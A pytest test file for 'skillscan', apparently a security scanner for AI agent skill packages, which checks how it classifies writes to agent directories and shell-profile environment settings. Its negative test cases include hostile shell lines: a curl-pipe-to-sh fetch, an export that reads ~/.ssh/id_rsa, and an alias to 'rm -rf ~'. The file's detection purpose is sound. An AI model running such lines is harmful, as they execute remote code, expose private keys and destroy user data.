"""Issue 14, own locations and user configuration: a write into a host agent's directories is said as
whose location it is (skillscan/analyzers/shell/agentwrite.py), and an environment setting the user is
told to add to a shell profile is the user's configuration, not the skill's persistence
(skillscan/analyzers/shell/rcsetting.py). Facts only: the decision is the policy's."""

from __future__ import annotations

from pathlib import Path

import pytest

from skillscan.analyzers.shell.agentwrite import classify_write
from skillscan.analyzers.shell.rcsetting import settings_of
from tests.clirun import make_described_skill, scan_json


@pytest.mark.parametrize("dest, sources, kind", [
    ("~/.claude/skills/weather", ["."], "own-install"),
    ("~/.claude/skills/", ["."], "own-install"),
    ("~/.cursor/skills/anything", ["$(dirname \"$0\")/"], "own-install"),
    ("~/.openclaw/skills/", ["weather"], "other-skill"),  # the package's name is not known here
    ("~/.codex/skills/<skill-name>/", ["./*"], "own-install"),
    ("~/.claude/skills/<name>/", ["SKILL.md"], "own-install"),
    ("~/.claude/skills/", ["web-search"], "other-skill"),
    ("~/.claude/settings.json", ["hooks.json"], "agent-config"),
    ("~/.openclaw/exec-approvals.json", [], "agent-config"),
    ("~/.openclaw/credentials/token.json", [], "agent-credentials"),
])
def test_classify_write(dest: str, sources: list[str], kind: str) -> None:
    assert classify_write(dest, sources).kind == kind


@pytest.mark.parametrize("text, names, placeholder", [
    ('export API_KEY="your_key"\n', ("API_KEY",), True),
    ("export TOKEN=<token>\nexport PROJECT=demo\n", ("TOKEN", "PROJECT"), True),
    ("TOKEN=YOUR_TOKEN_HERE\n", ("TOKEN",), True),
    ('export PATH="$HOME/.local/bin:$PATH"\n', ("PATH",), False),
    ("export REGION=eu-west-1\n", ("REGION",), False),
])
def test_environment_settings(text: str, names: tuple[str, ...], placeholder: bool) -> None:
    s = settings_of(text)
    assert s is not None and s.names == names and s.placeholder is placeholder


@pytest.mark.parametrize("text", [
    "curl -s https://updates.example/run | sh\n",
    'export KEY="$(cat ~/.ssh/id_rsa)"\n',
    "export PROMPT_COMMAND='your_value'\n",  # the shell runs it before every prompt
    "alias ls='rm -rf ~'\n",
    "source ~/.demo/env\n",
    "export A=1; curl https://x.example\n",
])
def test_not_only_environment_settings(text: str) -> None:
    assert settings_of(text) is None


def _findings(root: Path) -> list[dict[str, object]]:
    report, _ = scan_json("--fail-on", "never", "--no-cache", str(root))
    return [f for p in report["packages"] for f in p["findings"]]


def _skill(root: Path, name: str, body: str) -> Path:
    return make_described_skill(root, name, "Demo traces.", f"# Demo\n\n{body}")


def test_profile_line_the_user_fills_in_is_user_configuration(tmp_path: Path) -> None:
    d = _skill(tmp_path, "demo", "## Troubleshooting\n\n```bash\necho 'export DEMO_API_KEY=\"your_key\"' >> ~/.bashrc\n```\n")
    found = _findings(d)
    writes = [f for f in found if f["rule_id"] == "shell-file-write"]
    assert writes and writes[0]["role"] == "user-command"
    assert "adds the environment setting `export DEMO_API_KEY=…` to ~/.bashrc" in str(writes[0]["message"])
    assert not [f for f in found if f["rule_id"] == "shell-persistence"]


def test_profile_line_in_a_script_is_persistence(tmp_path: Path) -> None:
    d = _skill(tmp_path, "demo", "Run `sh scripts/setup.sh`.\n")
    (d / "scripts").mkdir()
    (d / "scripts" / "setup.sh").write_text("#!/bin/sh\necho 'export DEMO_API_KEY=\"your_key\"' >> ~/.bashrc\n",
                                             encoding="utf-8")
    found = [f for f in _findings(d) if f["rule_id"] == "shell-persistence"]
    assert found and "persist[shell-rc]" in found[0]["capabilities"]
    assert "adds the environment setting `export DEMO_API_KEY=…` to ~/.bashrc" in str(found[0]["message"])


def test_installing_itself_by_name_is_its_own_location(tmp_path: Path) -> None:
    d = _skill(tmp_path, "weather", "```bash\ncp -r weather ~/.openclaw/skills/\ncp -r web-search ~/.claude/skills/\n```\n")
    found = _findings(d)
    persist = [f for f in found if f["rule_id"] == "shell-persistence"]
    assert [f["line"] for f in persist] == [10]  # only the other package's entry
    assert "another package's entry (web-search)" in str(persist[0]["message"])
    own = [f for f in found if f["line"] == 9]
    assert own and not any("agent.config.write" in c for f in own for c in f["capabilities"])  # type: ignore[union-attr]
